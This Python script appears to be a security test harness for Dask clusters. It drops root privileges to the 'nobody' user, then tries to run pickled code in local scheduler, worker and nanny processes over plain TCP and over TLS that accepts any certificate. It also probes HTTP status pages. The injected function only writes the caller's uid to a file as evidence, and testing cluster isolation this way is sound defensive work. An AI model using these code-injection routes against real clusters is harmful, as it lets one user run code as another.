"""Another user of this machine, who tries to run code in the processes of a cluster; to be started by root.

    python stranger.py DIRECTORY PORT...

The code writes files into DIRECTORY, which the stranger cannot. Prints {port: pages that HTTP answers with} as JSON.
"""

import asyncio
import http.client
import json
import os
import ssl
import sys

import distributed
from distributed.comm import connect
from distributed.protocol.pickle import dumps

SECONDS = 2
NOBODY = 65534
PAGES = ["/", "/health", "/metrics", "/status", "/json/identity.json", "/info/main/workers.html"]


def code_for(path):
    def code(dask_worker=None, dask_scheduler=None):
        with open(path, "a") as file:
            file.write(f"{os.getuid()}\n")

    return code


class Identity(distributed.Security):
    """How to speak with a server: in clear (None), or by TLS with a context that trusts everybody."""

    def __init__(self, context):
        super().__init__()
        self.context = context
        self.scheme = "tls" if context else "tcp"

    def get_connection_args(self, role):
        return {"ssl_context": self.context, "require_encryption": False, "extra_conn_args": {}}


def identities():
    """In clear, by TLS without a certificate, and by TLS with one of the stranger's own."""
    own = distributed.Security.temporary().get_connection_args("client")["ssl_context"]
    without = ssl.create_default_context()
    for context in own, without:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return [Identity(context) for context in (None, without, own)]


async def by_message(address, security, code):
    """Send what a worker and a nanny (run) or a scheduler (run_function) calls."""
    for operation in ("run", "run_function"):
        comm = await connect(address, timeout=SECONDS, **security.get_connection_args("client"))
        await comm.write({"op": operation, "function": dumps(code), "args": (), "kwargs": {}, "reply": True})
        await comm.read()
        comm.abort()


async def by_client(address, security, code):
    async with distributed.Client(address, security=security, asynchronous=True, timeout=SECONDS) as client:
        await client.run_on_scheduler(code)
        await client.run(code)


async def attack(ports, directory, known):
    tries = [
        asyncio.wait_for(way(f"{one.scheme}://127.0.0.1:{port}", one, code_for(f"{directory}/{port}")), 2 * SECONDS)
        for port in ports
        for one in known
        for way in (by_message, by_client)
    ]
    await asyncio.gather(*tries, return_exceptions=True)


def pages_of(port):
    found = []
    for page in PAGES:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=SECONDS)
        try:
            connection.request("GET", page)
            found += [page] if connection.getresponse().status != 404 else []
        except (OSError, http.client.HTTPException):
            break  # no HTTP
        finally:
            connection.close()
    return found


if __name__ == "__main__":
    directory, *ports = sys.argv[1:]
    known = identities()
    asyncio.run(attack([1], directory, known))  # imports what the stranger might not be allowed to read
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    asyncio.run(attack(ports, directory, known))
    print(json.dumps({port: found for port in ports if (found := pages_of(int(port)))}))
